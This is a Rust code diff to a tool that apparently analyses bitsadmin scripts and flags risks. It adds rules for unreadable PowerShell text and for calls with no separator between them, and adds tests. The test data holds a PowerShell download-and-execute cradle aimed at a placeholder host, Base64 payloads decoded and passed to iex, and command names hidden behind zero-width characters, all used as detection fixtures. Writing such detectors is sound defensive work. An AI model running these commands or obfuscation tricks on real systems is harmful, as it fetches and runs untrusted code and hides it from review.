@@ -19,6 +19,7 @@ mod value;
 
 use crate::catalog::SettingId;
 use crate::diagnostic::Severity;
+use crate::invisible::visible;
 use crate::judge::{Judged, judge};
 use crate::parse::found::Found;
 use crate::parse::hidden::{self, Secrets};
@@ -27,7 +28,7 @@ use crate::snippet::{Form, Snippet, snippets, speaks_of_it, unread};
 use crate::span::Span;
 use crate::text::Text;
 use crate::value::{Entry, Secrecy};
-use std::collections::BTreeMap;
+use std::collections::{BTreeMap, BTreeSet};
 
 pub use report::{explanation_json, markdown, text};
 pub use value::{entry_meaning, meaning};
@@ -86,7 +87,10 @@ impl Explanation {
             false if self.speaks_of_it => {
                 "No command of BITS is read here; the text speaks of some, in sentences or with placeholders."
             }
-            false => "Nothing in this text has to do with BITS.",
+            false if self.risks().any(|found| found.rule == TEXT_NOT_READ) => {
+                "No command of BITS is found in this text; a part of it is run as commands and not read."
+            }
+            false => "No command of BITS is found in this text.",
         }
     }
 
@@ -112,6 +116,10 @@ const AGAIN: &str = " This is the first of several: the statement runs again wit
 
 /// What is said of a part that names a command of BITS and is not followed: the steps do not have it.
 const NOT_FOLLOWED: &str = "commands-not-followed";
+/// What is said of a call that begins in another one.
+const NOT_SEPARATED: &str = "missing-separator";
+/// What is said of a text that is run and not known: any command may stand in it.
+const TEXT_NOT_READ: &str = "text-not-read";
 /// What is said of a command that runs on another machine: the steps do not say so.
 const ELSEWHERE: &str = "runs-elsewhere";
 /// What is said of a command that changes the machine.
@@ -122,14 +130,22 @@ const DOWNLOAD_IS_RUN: &str = "download-is-run";
 fn is_risk(judged: &Judged) -> bool {
     judged.found.severity != Severity::Information
         || judged.lowers_security
-        || [NOT_FOLLOWED, ELSEWHERE, DOWNLOAD_IS_RUN, CHANGES_THE_MACHINE].contains(&judged.found.rule)
+        || [
+            NOT_FOLLOWED,
+            TEXT_NOT_READ,
+            ELSEWHERE,
+            DOWNLOAD_IS_RUN,
+            CHANGES_THE_MACHINE,
+        ]
+        .contains(&judged.found.rule)
 }
 
 /// Explains a script.
 pub fn explain(script: &Import, source: &str) -> Explanation {
     let mut tokens = Vec::new();
     let mut steps = Vec::new();
-    for statement in &script.statements {
+    let joined = joined(script);
+    for (number, statement) in script.statements.iter().enumerate() {
         let (said, step) = match &statement.called {
             Called::Bitsadmin(call) => (bitsadmin::tokens(call), bitsadmin::step(call)),
             Called::Cmdlet(bound) => {
@@ -147,10 +163,11 @@ pub fn explain(script: &Import, source: &str) -> Explanation {
         steps.push((
             Step {
                 span: statement.span,
-                text: match statement.is_sure {
-                    true => step,
+                text: match (joined.contains(&number), statement.is_sure) {
+                    (true, _) => format!("Would, if the calls were separated: {}", shown::lower(&step)),
+                    (false, true) => step,
                     // A check, a branch, a function that nothing calls.
-                    false => format!("If it comes to that: {}", shown::lower(&step)),
+                    (false, false) => format!("If it comes to that: {}", shown::lower(&step)),
                 },
             },
             statement.job,
@@ -195,14 +212,24 @@ fn name_of(script: &Import, job: usize) -> Option<String> {
 /// What is said of a job that stands for several.
 const MADE_IN_A_LOOP: &str = "made-in-a-loop";
 
-/// Takes out what is secret.
+/// The numbers of the statements of which nothing separates one from the next: bitsadmin reads them as one call.
+fn joined(script: &Import) -> BTreeSet<usize> {
+    let found = script.found.iter().filter(|found| found.rule == NOT_SEPARATED);
+    let begins: BTreeSet<usize> = found.map(|found| found.span.start).collect();
+    let all = script.statements.iter().enumerate();
+    all.filter(|(_, statement)| begins.contains(&statement.span.start))
+        .flat_map(|(number, _)| [number.saturating_sub(1), number])
+        .collect()
+}
+
+/// Takes out what is secret, and shows what is not seen.
 fn conceal(tokens: &mut [Token], steps: &mut [Step], secrets: &Secrets, source: &str) {
     for token in tokens {
         token.secret |= secrets.stand_in(token.span.of(source));
-        token.text = secrets.left_out(&token.text);
+        token.text = visible(&secrets.left_out(&token.text)).into_owned();
     }
     for step in steps {
-        step.text = secrets.left_out(&step.text);
+        step.text = visible(&secrets.left_out(&step.text)).into_owned();
     }
 }
 
@@ -327,7 +354,9 @@ mod tests {
 
     #[test]
     fn what_is_not_followed_is_told() {
-        const READ: &str = "Nothing in this text has to do with BITS.";
+        const READ: &str = "No command of BITS is found in this text.\n";
+        const RUN: &str =
+            "No command of BITS is found in this text; a part of it is run as commands and not read.\n";
         const NAMED: &str =
             "No command of BITS is read here; a part of the text that is not followed names one.";
         for (source, expected, line) in [
@@ -352,6 +381,27 @@ mod tests {
                 NAMED,
                 Some("note [commands-not-followed], line 3"),
             ),
+            // Of a text in Base64 the end is missing; what is no text in Base64.
+            ("powershell -enc UwB0AGEAcgB0AC0AQgBpAHQAc", RUN, None),
+            ("powershell -nop -enc ////notbase64!!!", RUN, None),
+            ("powershell -enc %TEXT%", RUN, None),
+            ("powershell -c \"iex $x\"", RUN, None),
+            (
+                "powershell -c \"$x=[Text.Encoding]::Unicode.GetString([Convert]::FromBase64String($y)); iex $x\"",
+                RUN,
+                None,
+            ),
+            (
+                "powershell -c \"IEX (New-Object Net.WebClient).DownloadString('https://h/a')\"",
+                RUN,
+                None,
+            ),
+            ("powershell -c \"& (Get-Name) -Source a\"", RUN, None),
+            (
+                "powershell -c \"[Activator]::CreateInstance([type]::GetTypeFromCLSID('4991d34b-80a1-4291-83b6-3328366b9097'))\"",
+                NAMED,
+                Some("note [commands-not-followed], line 1"),
+            ),
             ("echo bitsadmin /resume j failed >> run.log", READ, None),
             ("echo bitsadmin /resume j 2> run.cmd", READ, None),
         ] {
@@ -365,6 +415,76 @@ mod tests {
             let is_told = said.contains("commands-not-followed");
             assert_eq!(is_told, line.is_some(), "{source}\n{said}");
             assert!(line.is_none_or(|line| said.contains(line)), "{source}\n{said}");
+        }
+    }
+
+    #[test]
+    fn what_only_a_jump_leads_to_is_no_plain_fact() {
+        for (source, sure, unsure) in [
+            (
+                "@echo off\r\nbitsadmin /resume j\r\nif errorlevel 1 goto failed\r\nbitsadmin /complete j\r\ngoto :eof\r\n:failed\r\nbitsadmin /cancel j\r\n",
+                &["/resume", "/complete"][..],
+                &["/cancel"][..],
+            ),
+            (
+                "@echo off\r\ngoto main\r\n:main\r\nbitsadmin /resume j\r\n:next\r\nbitsadmin /complete j\r\n",
+                &["/resume", "/complete"],
+                &[],
+            ),
+            (
+                "@echo off\r\ncall :go\r\ngoto :eof\r\n:go\r\nbitsadmin /resume j\r\nexit /b\r\n",
+                &["/resume"],
+                &[],
+            ),
+            (
+                "@echo off\r\nbitsadmin /resume j || goto bad\r\nexit /b\r\n:bad\r\ncall :stop\r\nexit /b\r\n:stop\r\nbitsadmin /cancel j\r\n",
+                &["/resume"],
+                &["/cancel"],
+            ),
+        ] {
+            let script = import(source, Reading::default());
+            let steps = explain(&script, source).steps;
+            let of = |is_sure: bool| -> Vec<&str> {
+                let steps = steps.iter();
+                let with = steps.filter(|step| step.text.starts_with("If it comes to that: ") != is_sure);
+                with.filter_map(|step| step.span.of(source).split(' ').nth(1))
+                    .collect()
+            };
+            assert_eq!(
+                (of(true), of(false)),
+                (sure.to_vec(), unsure.to_vec()),
+                "{source}\n{steps:?}"
+            );
+        }
+    }
+
+    #[test]
+    fn what_stands_for_a_command_is_called_what_it_is() {
+        for (source, said) in [
+            (
+                "%TOOL% /setpriority j LOW",
+                "A variable stands here for a command",
+            ),
+            (
+                "\u{FEFF}bitsadmin /setpriority j LOW",
+                "U+FEFF byte order mark: to cmd",
+            ),
+            (
+                "bits\u{200B}admin /setpriority j LOW",
+                "U+200B zero width space: to cmd",
+            ),
+            (
+                "C:\\t\\ba.exe /transfer j https://h/a C:\\a",
+                "stands behind another name",
+            ),
+            ("-bitsadmin /setpriority j LOW", "stands behind another name"),
+        ] {
+            let script = import(source, Reading::default());
+            let found: Vec<&str> = script.found.iter().map(|found| &*found.message).collect();
+            assert!(
+                found.iter().any(|message| message.contains(said)),
+                "{source:?}: {found:?}"
+            );
         }
     }
 
@@ -390,7 +510,7 @@ mod tests {
             ),
             (
                 "bitsadmin /setcredentials job PROXY NTLM NULL NULL & ver",
-                "“NTLM” “NULL” “NULL”.",
+                "“NTLM”, “NULL”, “NULL”.",
             ),
             (
                 "bitsadmin /setcredentials job PROXY NTLM NULL NULL",
